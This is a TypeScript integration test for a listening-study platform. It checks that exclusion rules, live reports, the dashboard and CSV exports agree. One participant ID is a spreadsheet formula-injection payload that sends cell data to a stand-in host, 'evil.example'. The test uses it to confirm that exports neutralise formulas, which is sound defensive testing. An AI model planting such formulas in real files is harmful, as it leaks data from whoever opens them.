/**
 * One analysis path (analysis-spec §1): a study with every exclusion rule switched on, listeners
 * who trip each rule, run through the real listener API on a real server and SQLite file; the
 * live report and the dashboard must equal `npm run analyze` on the study's export.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBundle } from '../../analysis/bundle';
import { StudyDefinition } from '../../contract/study-definition';
import type { VoteBody } from '../../contract/listener';
import { call, ratingFor, takeScreening, voteFor } from '../testing/client';
import { startTestServer, type TestServer } from '../testing/server';

const run = promisify(execFile);
const tsx = join(process.cwd(), 'node_modules/.bin/tsx');
const STUDY = 'rules';
const FORMULA_PID = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let server: TestServer;
let analyst: string;
/** The export with the link parameters is the researcher's (docs/security.md, "Roles"); analysts get a pseudonym instead. */
let researcher: string;
let dir: string;

interface Listener {
  pid: string;
  screening?: boolean;
  /** answer attention checks wrongly */
  wrongAttention?: boolean;
  /** what this listener's votes record, by trial number (0-based) */
  vote?: (n: number) => Partial<VoteBody>;
  /** trials to answer (default all) */
  answers?: number;
}

// Thresholds of the study below; each listener after the first three trips the rule named.
const LISTENERS: Record<string, Listener> = {
  good1: { pid: 'P-good-1', screening: true },
  good2: { pid: 'P-good-2', screening: true, vote: (n) => ({ responseMs: 2000 + 97 * n, hiddenMs: n === 3 ? 900 : 0 }) },
  good3: { pid: FORMULA_PID, screening: true, vote: (n) => ({ heardToEnd: n !== 2 }) }, // one violation is allowed
  attention: { pid: 'P-attention', screening: true, wrongAttention: true },
  fast: { pid: 'P-fast', screening: true, vote: () => ({ responseMs: 350 }) },
  listening: { pid: 'P-listening', screening: true, vote: (n) => ({ heardToEnd: n % 3 !== 0 }) },
  hidden: { pid: 'P-hidden', screening: true, vote: (n) => ({ hiddenMs: n < 3 ? 4000 : 0 }) }, // trial 0 may be practice
  screening: { pid: 'P-screening', screening: false },
  fastAndHidden: { pid: '+P-both', screening: true, vote: () => ({ responseMs: 400, hiddenMs: 1500 }) },
  unscreened: { pid: '-1.5' },
  startedOnly: { pid: '@P-idle', answers: 0 },
};

async function listen(name: string, l: Listener): Promise<void> {
  const start = await call(`${server.url}/api/sessions`, { body: { study: STUDY, external: { PROLIFIC_PID: l.pid, STUDY_ID: 'S1', OTHER: 'not kept' } } });
  expect(start.status, start.text).toBe(201);
  const token = start.body.token as string;
  if (l.screening !== undefined) {
    expect((await takeScreening(server.url, token, 'antiphase', l.screening)).status).toBe(200);
  }
  const listener = server.app.store.sessions.byToken(token)!;
  const item = server.app.db.prepare(
    'SELECT a.first, i.kind, i.expected FROM assignments a JOIN items i ON i.id = a.item_id WHERE a.listener_id = ? AND a.position = ?',
  );
  const salt = name.length;
  for (let n = 0; n < (l.answers ?? Infinity); n++) {
    const state = (await call(`${server.url}/api/session`, { token })).body;
    if (!state.trial) break;
    const { position } = state.trial;
    const { first, kind, expected } = item.get(listener.id, position) as { first: 'a' | 'b'; kind: string; expected: 'a' | 'b' | null };
    // Attention: the right caption (or the wrong one); pairs: a spread of choices so items disagree.
    const wantA = kind === 'attention' ? (expected === 'a') !== !!l.wrongAttention : (position * 7 + salt) % 3 !== 0;
    const choice = (first === 'a') === wantA ? 1 : 2;
    const vote = await call(`${server.url}/api/session/votes`, { token, body: voteFor(position, choice, { responseMs: 2500, ...l.vote?.(n) }) });
    expect(vote.status, vote.text).toBe(200);
  }
}

async function analyzeCli(bundleDir: string, ...flags: string[]): Promise<{ report: any; stderr: string }> {
  const { stdout, stderr } = await run(tsx, [join('analysis', 'cli.ts'), bundleDir, '--format', 'json', ...flags]);
  return { report: JSON.parse(stdout), stderr };
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'earmark-live-offline-'));
  server = await startTestServer({ studies: [{ study: STUDY, pairs: 8, attention: 2, practice: 1 }] });
  analyst = (await server.app.store.accessTokens.create('analyst')).token;
  researcher = (await server.app.store.accessTokens.create('researcher')).token;
  // Every exclusion rule on, and a split threshold other than the default.
  const db = server.app.db;
  const stored = JSON.parse((db.prepare('SELECT definition FROM studies WHERE id = ?').get(STUDY) as { definition: string }).definition);
  const definition = StudyDefinition.parse({
    ...stored,
    exclusion: { minAttention: 0.75, minMedianResponseMs: 1000, maxListeningViolations: 1, maxHiddenMs: 5000, excludeFailedScreening: true },
    analysis: { splitThreshold: 0.8 },
  });
  db.prepare('UPDATE studies SET definition = ? WHERE id = ?').run(JSON.stringify(definition), STUDY);
  // A negative judge score: numeric columns must stay numbers in the CSV and in the analysis.
  db.prepare("UPDATE study_judge_scores SET score = -1.5 WHERE rowid = (SELECT min(rowid) FROM study_judge_scores WHERE utterance_id LIKE 'ravdess:%rules-2')").run();
  for (const [name, l] of Object.entries(LISTENERS)) await listen(name, l);
});
afterAll(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

describe('live report = npm run analyze on the export', () => {
  it('gives the same JSON, with every rule run and each tripped', async () => {
    const live = await call(`${server.url}/api/reports/${STUDY}`, { token: analyst });
    expect(live.status, live.text).toBe(200);
    const exported = await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst });
    expect(exported.status, exported.text).toBe(200);
    const bundleDir = join(dir, 'api');
    await mkdir(bundleDir);
    for (const [name, text] of Object.entries(exported.body as Record<string, string>)) await writeFile(join(bundleDir, name), text);

    const { report } = await analyzeCli(bundleDir);
    expect(live.body).toEqual(report);

    const l = report.listeners;
    expect(l.total).toBe(10);
    expect(l.excluded_by_reason).toEqual({ attention: 1, fast: 2, listening: 1, hidden: 2, screening: 1 });
    const reasons = Object.fromEntries(l.excluded.map((e: { listener_id: string; reasons: string[] }) => [e.listener_id, e.reasons]));
    expect(Object.values(reasons).map((r) => (r as string[]).join('+')).sort()).toEqual(['attention', 'fast', 'fast+hidden', 'hidden', 'listening', 'screening']);
    expect(l.retained).toBe(4);
    // The unscreened listener's screening could not run: neither pass nor fail.
    expect(l.not_run_by_reason).toEqual({ screening: 1 });
    expect(report.reliability.coding).toMatch(/system_a.*items\.csv/);
    expect(report.reliability.brennan_prediger_kappa).toEqual(expect.any(Number));
    // Flags override study.json: a lower split threshold splits no more items; a looser hidden limit excludes nobody for it.
    const overridden = await analyzeCli(bundleDir, '--split-threshold', '0.51', '--max-hidden-ms', '100000');
    expect(overridden.report.listeners.excluded_by_reason.hidden).toBeUndefined();
    expect(overridden.report.reliability.split).toBeLessThanOrEqual(report.reliability.split);
  });

  it('the dashboard shows the same listeners, exclusions and statistics', async () => {
    const dash = (await call(`${server.url}/api/studio/studies/${STUDY}/dashboard`, { token: analyst })).body;
    const exported = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: analyst })).body as Record<string, string>;
    const bundleDir = join(dir, 'dash');
    await mkdir(bundleDir);
    for (const [name, text] of Object.entries(exported)) await writeFile(join(bundleDir, name), text);
    const { report } = await analyzeCli(bundleDir);
    expect(dash.listeners).toMatchObject({
      voted: report.listeners.total,
      retained: report.listeners.retained,
      excluded: report.listeners.excluded.length,
      excludedByReason: report.listeners.excluded_by_reason,
      notRunByReason: report.listeners.not_run_by_reason,
    });
    expect(dash.listeners.rules.map((r: { reason: string }) => r.reason)).toEqual(['attention', 'fast', 'listening', 'hidden', 'screening']);
    expect(dash.reliability).toEqual({
      items: report.reliability.items,
      votes: report.reliability.votes,
      krippendorffAlpha: report.reliability.krippendorff_alpha,
      fleissKappa: report.reliability.fleiss_kappa,
      brennanPredigerKappa: report.reliability.brennan_prediger_kappa,
      meanPairwiseAgreement: report.reliability.mean_pairwise_agreement,
      coding: report.reliability.coding,
    });
    expect(dash.judges).toEqual(report.judges.map((j: any) => ({ judge: j.judge, items: j.n, agreement: j.agreement, ci95: j.ci95, cohenKappa: j.cohen_kappa })));
    expect(dash.attention.passRate).toBe(report.listeners.attention_pass_rate);
    expect(dash.screening).toEqual({ kind: 'antiphase', passed: 8, failed: 1, notRun: 2 });
  });

  it('npm run export writes the same files as the API (study.json differing only in its export time)', async () => {
    const cliDir = join(dir, 'cli');
    const r = await run('npm', ['run', '--silent', 'export', '--', STUDY, cliDir, '--data', server.dataDir]);
    expect(r.stdout).toMatch(/Wrote \d+ items, \d+ votes, \d+ judge scores, 11 listeners/);
    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: researcher })).body as Record<string, string>;
    expect((await readdir(cliDir)).sort()).toEqual(Object.keys(api).sort());
    for (const [name, text] of Object.entries(api)) {
      const written = await readFile(join(cliDir, name), 'utf8');
      if (name === 'study.json') expect({ ...JSON.parse(written), exportedAt: null }).toEqual({ ...JSON.parse(text), exportedAt: null });
      else expect(written, name).toBe(text);
    }
    const study = JSON.parse(api['study.json']);
    expect(study).toMatchObject({
      study: STUDY,
      minAttention: 0.75,
      splitThreshold: 0.8,
      rules: {
        fast: { minMedianResponseMs: 1000 },
        listening: { maxListeningViolations: 1, requirement: { mode: 'whole' } },
        hidden: { maxHiddenMs: 5000 },
        screening: { excludeFailedScreening: true },
      },
      linkParameters: ['PROLIFIC_PID', 'STUDY_ID'],
    });
    expect(new Date(study.exportedAt).toISOString()).toBe(study.exportedAt);
  });

  it('listeners.csv lists every session with its link parameters, spreadsheet formulas neutralised and read back intact', async () => {
    const api = (await call(`${server.url}/api/studio/studies/${STUDY}/export`, { token: researcher })).body as Record<string, string>;
    const lines = api['listeners.csv'].split('\r\n');
    expect(lines[0]).toBe('listener_id,started_at,completed_at,screening,PROLIFIC_PID,STUDY_ID,completion_code');
    expect(lines).toHaveLength(Object.keys(LISTENERS).length + 2);
    expect(api['listeners.csv']).not.toContain('not kept');
    // Text that a spreadsheet would run as a formula starts with a quote; numbers stay numbers.
    expect(api['listeners.csv']).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const pid of ['+P-both', '-1.5', '@P-idle']) expect(api['listeners.csv']).toContain(`"'${pid}"`);
    expect(api['judge_scores.csv']).toMatch(/,-1\.5\r\n/);
    for (const line of lines.slice(1, -1)) expect(line).not.toMatch(/(^|,)[=+\-@]/);

    const bundleDir = join(dir, 'listeners');
    await mkdir(bundleDir);
    for (const [name, text] of Object.entries(api)) await writeFile(join(bundleDir, name), text);
    const bundle = await readBundle(bundleDir);
    const pids = [...bundle.listenerTable!.values()].map((l) => l.more?.PROLIFIC_PID).sort();
    expect(pids).toEqual(Object.values(LISTENERS).map((l) => l.pid).sort());
    expect(bundle.judgeScores.some((s) => s.score === -1.5)).toBe(true);
    const db = server.app.db;
    const done = db.prepare('SELECT id, completion_code FROM listeners WHERE study_id = ? AND completed_at IS NOT NULL').all(STUDY) as { id: string; completion_code: string }[];
    expect(done.length).toBe(10);
    for (const d of done) {
      const row = bundle.listenerTable!.get(d.id)!;
      expect(row.completed_at).not.toBeNull();
      expect(row.more?.completion_code).toBe(d.completion_code);
    }
    // The PROLIFIC_PID sits beside the listener's votes: same listener_id in both files.
    const good = [...bundle.listenerTable!.values()].find((l) => l.more?.PROLIFIC_PID === 'P-good-1')!;
    expect(bundle.listeners).toContain(good.listener_id);
    expect(good.screening).toBe('passed');
  });

  it('a bundle without listeners.csv and study.json stays valid; the report says which rules could not run', async () => {
    const bundleDir = join(dir, 'api');
    await rm(join(bundleDir, 'listeners.csv'));
    await rm(join(bundleDir, 'study.json'));
    const { report, stderr } = await analyzeCli(bundleDir, '--exclude-failed-screening', '--min-median-response-ms', '1000');
    expect(stderr).toMatch(/no study\.json/);
    expect(report.listeners.not_run_by_reason).toEqual({ screening: 10 });
    expect(report.listeners.excluded_by_reason).toEqual({ attention: 1, fast: 2 });
  });
});

describe('a rating study: live report = npm run analyze on the export', () => {
  const MOS = 'mos-rules';
  // How good each system sounds; listeners rate around it, item by item.
  const QUALITY: Record<string, number> = { 'sysalpha-7b': 4, 'sysbeta-audio': 3, 'sysgamma-large': 2 };
  let mos: TestServer;
  let token: string;

  interface Rater {
    pid: string;
    screening: boolean;
    /** the score for an ordinary item of this quality (seq: the item's place in the study; the trial order is each listener's own) */
    score: (quality: number, seq: number) => number;
    wrongAttention?: boolean;
  }
  const panel = (quality: number, seq: number) => Math.min(5, Math.max(1, quality + ((seq * 5) % 3) - 1));
  const RATERS: Record<string, Rater> = {
    good1: { pid: 'R-good-1', screening: true, score: (q) => q },
    good2: { pid: 'R-good-2', screening: true, score: panel },
    good3: { pid: 'R-good-3', screening: true, score: (q, seq) => Math.min(5, q + (seq % 2)) },
    reversed: { pid: 'R-reversed', screening: true, score: (q) => 6 - q },
    attention: { pid: 'R-attention', screening: true, score: (q) => q, wrongAttention: true },
    screening: { pid: 'R-screening', screening: false, score: panel },
  };

  async function rate(r: Rater): Promise<void> {
    const start = await call(`${mos.url}/api/sessions`, { body: { study: MOS, external: { PROLIFIC_PID: r.pid, STUDY_ID: 'S1' } } });
    expect(start.status, start.text).toBe(201);
    const listenerToken = start.body.token as string;
    expect((await takeScreening(mos.url, listenerToken, 'antiphase', r.screening)).status).toBe(200);
    const listener = mos.app.store.sessions.byToken(listenerToken)!;
    const item = mos.app.db.prepare('SELECT i.seq, i.kind, i.system_a, i.expected FROM assignments a JOIN items i ON i.id = a.item_id WHERE a.listener_id = ? AND a.position = ?');
    for (let n = 0; ; n++) {
      const state = (await call(`${mos.url}/api/session`, { token: listenerToken })).body;
      if (!state.trial) break;
      const { seq, kind, system_a, expected } = item.get(listener.id, state.trial.position) as { seq: number; kind: string; system_a: string; expected: string | null };
      const score = kind === 'rating' ? r.score(QUALITY[system_a], seq) : kind === 'attention' && r.wrongAttention ? 3 : Number(expected);
      const vote = await call(`${mos.url}/api/session/votes`, { token: listenerToken, body: ratingFor(state.trial.position, score, { responseMs: 1800 + 10 * n }) });
      expect(vote.status, vote.text).toBe(200);
    }
  }

  beforeAll(async () => {
    mos = await startTestServer({ studies: [{ study: MOS, pairs: 9, attention: 2, practice: 1, rating: { caption: true, minListenerCorrelation: 0.25 } }] });
    token = (await mos.app.store.accessTokens.create('analyst')).token;
    const db = mos.app.db;
    const stored = JSON.parse((db.prepare('SELECT definition FROM studies WHERE id = ?').get(MOS) as { definition: string }).definition);
    db.prepare('UPDATE studies SET definition = ? WHERE id = ?').run(
      JSON.stringify(StudyDefinition.parse({ ...stored, exclusion: { ...stored.exclusion, excludeFailedScreening: true } })), MOS,
    );
    for (const r of Object.values(RATERS)) await rate(r);
  });
  afterAll(() => mos.close());

  const exportTo = async (name: string): Promise<Record<string, string>> => {
    const exported = await call(`${mos.url}/api/studio/studies/${MOS}/export`, { token });
    expect(exported.status, exported.text).toBe(200);
    const bundleDir = join(dir, name);
    await mkdir(bundleDir);
    for (const [file, text] of Object.entries(exported.body as Record<string, string>)) await writeFile(join(bundleDir, file), text);
    return exported.body;
  };

  it('gives the same JSON, with the ratings section and the correlation rule run', async () => {
    const live = await call(`${mos.url}/api/reports/${MOS}`, { token });
    expect(live.status, live.text).toBe(200);
    await exportTo('mos');
    const { report } = await analyzeCli(join(dir, 'mos'));
    expect(live.body).toEqual(report);

    expect(report.listeners.excluded_by_reason).toEqual({ attention: 1, screening: 1, listener_correlation: 1 });
    expect(report.listeners.retained).toBe(3);
    const r = report.ratings;
    expect(r.scale).toEqual([1, 5]);
    expect(r.listeners).toBe(3);
    expect(r.votes).toBe(27);
    expect(r.systems.map((s: { system: string }) => s.system)).toEqual(['sysalpha-7b', 'sysbeta-audio', 'sysgamma-large']);
    expect(r.systems.map((s: { n: number }) => s.n)).toEqual([9, 9, 9]);
    expect(r.reliability.krippendorff_alpha_interval).toBeGreaterThan(0.5);
    const reversed = r.listener_correlation.find((c: { listener_id: string }) => c.listener_id === reportListener('R-reversed'));
    expect(reversed.pearson_r).toBeLessThan(0);
    // The pair sections have nothing to say about a rating study.
    expect(report.reliability.votes).toBe(0);
  });

  /** The listener id of a link's PROLIFIC_PID. */
  const reportListener = (pid: string) =>
    mos.app.db.prepare("SELECT id FROM listeners WHERE study_id = ? AND json_extract(external, '$.PROLIFIC_PID') = ?").pluck().get(MOS, pid) as string;

  it('the dashboard shows the same MOS, α and low-correlation listeners', async () => {
    const dash = await call(`${mos.url}/api/studio/studies/${MOS}/dashboard`, { token });
    expect(dash.status, dash.text).toBe(200);
    const exported = await exportTo('mos-dash');
    expect(exported['ratings.csv']).toBeDefined();
    const { report } = await analyzeCli(join(dir, 'mos-dash'));
    const r = report.ratings;
    expect(dash.body.ratings).toEqual({
      scale: r.scale,
      votes: r.votes,
      listeners: r.listeners,
      systems: r.systems.map((s: any) => ({ system: s.system, n: s.n, mos: s.mos, sd: s.sd, ci95: s.ci95, rank: s.rank, rankCi: s.rank_ci })),
      krippendorffAlphaInterval: r.reliability.krippendorff_alpha_interval,
      krippendorffAlphaOrdinal: r.reliability.krippendorff_alpha_ordinal,
      minListenerCorrelation: 0.25,
      // An analyst does not see the recruiting platform's ids.
      lowCorrelation: [{ listener: reportListener('R-reversed'), participant: null, pearsonR: expect.any(Number), n: 9 }],
    });
    // A researcher sees the platform id beside the listener id, in the dashboard's list and the HTML report's.
    const researcher = (await mos.app.store.accessTokens.create('researcher')).token;
    const theirs = (await call(`${mos.url}/api/studio/studies/${MOS}/dashboard`, { token: researcher })).body;
    expect(theirs.ratings.lowCorrelation).toEqual([{ ...dash.body.ratings.lowCorrelation[0], participant: 'R-reversed' }]);
    const page = async (as: string) => {
      const link = (await call(`${mos.url}/api/reports/${MOS}/html-link`, { token: as, method: 'POST' })).body;
      return (await fetch(`${mos.url}${link.url}`)).text();
    };
    const excludedRow = (html: string) => html.match(new RegExp(`<tr><td>${reportListener('R-reversed')}</td>.*?</tr>`))?.[0];
    expect(excludedRow(await page(researcher))).toMatch(/^<tr><td>[^<]+<\/td><td>R-reversed<\/td><td>listener_correlation<\/td>/);
    expect(excludedRow(await page(token))).toMatch(/^<tr><td>[^<]+<\/td><td>listener_correlation<\/td>/);
    expect(await page(token)).not.toContain('R-reversed');
    expect(dash.body.ratings.lowCorrelation[0].pearsonR).toBe(r.listener_correlation.find((c: any) => c.listener_id === reportListener('R-reversed')).pearson_r);
    expect(dash.body.listeners).toMatchObject({ voted: 6, retained: 3, excludedByReason: report.listeners.excluded_by_reason });
    expect(dash.body.listeners.rules.map((x: { reason: string }) => x.reason)).toEqual(['attention', 'screening', 'listener_correlation']);
    expect(dash.body.attention).toEqual({ answered: 12, correct: 10, passRate: report.listeners.attention_pass_rate });
    expect(dash.body.votes.perItem.map((i: { kind: string }) => i.kind)).toEqual(['practice', ...Array(9).fill('rating'), 'attention', 'attention']);
  });

  it('exports items.csv rating rows, ratings.csv (with the vote columns after the five), an empty votes.csv and the scale in study.json', async () => {
    const files = await exportTo('mos-files');
    const lines = (file: string) => files[file].split('\r\n').slice(0, -1);
    expect(lines('votes.csv')).toEqual(['item_id,listener_id,first,chosen,position,play_count,seconds_listened,heard_to_end,hidden_ms,response_ms,client_ts,server_ts,vote_id,assigned_at']);
    const items = lines('items.csv');
    expect(items[0]).toBe('item_id,utterance_id,system_a,system_b,attention,expected,kind');
    expect(items).toHaveLength(1 + 9 + 2); // practice is not data
    expect(items.filter((l) => l.endsWith(',,0,,rating'))).toHaveLength(9);
    expect(items.filter((l) => l.endsWith(',,1,1,rating'))).toHaveLength(2);
    const ratings = lines('ratings.csv');
    expect(ratings[0]).toBe('item_id,listener_id,system,utterance_id,score,position,play_count,seconds_listened,heard_to_end,hidden_ms,response_ms,client_ts,server_ts,vote_id,assigned_at');
    expect(ratings).toHaveLength(1 + 6 * 11);
    const stored = mos.app.db.prepare(`
      SELECT v.item_id, v.listener_id, i.system_a, i.utterance_id, v.score, v.position FROM votes v JOIN items i ON i.id = v.item_id
      WHERE i.study_id = ? AND i.kind != 'practice' ORDER BY v.rowid`).all(MOS) as Record<string, unknown>[];
    expect(ratings.slice(1).map((l) => l.split(',').slice(0, 6).join(','))).toEqual(stored.map((s) => Object.values(s).join(',')));
    const study = JSON.parse(files['study.json']);
    expect(study).toMatchObject({ ratingScale: [1, 5], rules: { correlation: { minListenerCorrelation: 0.25 }, screening: { excludeFailedScreening: true } } });

    const zipped = await fetch(`${mos.url}/api/studio/studies/${MOS}/export.zip`, { headers: { authorization: `Bearer ${token}` } });
    expect(Object.keys(unzipSync(new Uint8Array(await zipped.arrayBuffer()))).sort()).toEqual(
      ['items.csv', 'judge_scores.csv', 'listeners.csv', 'ratings.csv', 'study.json', 'votes.csv'].map((f) => `${MOS}-bundle/${f}`),
    );
    const cliDir = join(dir, 'mos-cli');
    const r = await run('npm', ['run', '--silent', 'export', '--', MOS, cliDir, '--data', mos.dataDir]);
    expect(r.stdout).toMatch(/Wrote 11 items, 66 votes, \d+ judge scores, 6 listeners/);
    expect((await readdir(cliDir)).sort()).toEqual(Object.keys(files).sort());
    // The CLI's export is the researcher's: the analyst's differs in listeners.csv only (a pseudonym for the link parameters).
    const researcherFiles = (await call(`${mos.url}/api/studio/studies/${MOS}/export`, { token: (await mos.app.store.accessTokens.create('researcher')).token })).body as Record<string, string>;
    for (const [name, text] of Object.entries(researcherFiles)) {
      if (name !== 'study.json') expect(await readFile(join(cliDir, name), 'utf8'), name).toBe(text);
      if (name !== 'study.json' && name !== 'listeners.csv') expect(files[name], name).toBe(text);
    }
  });
});
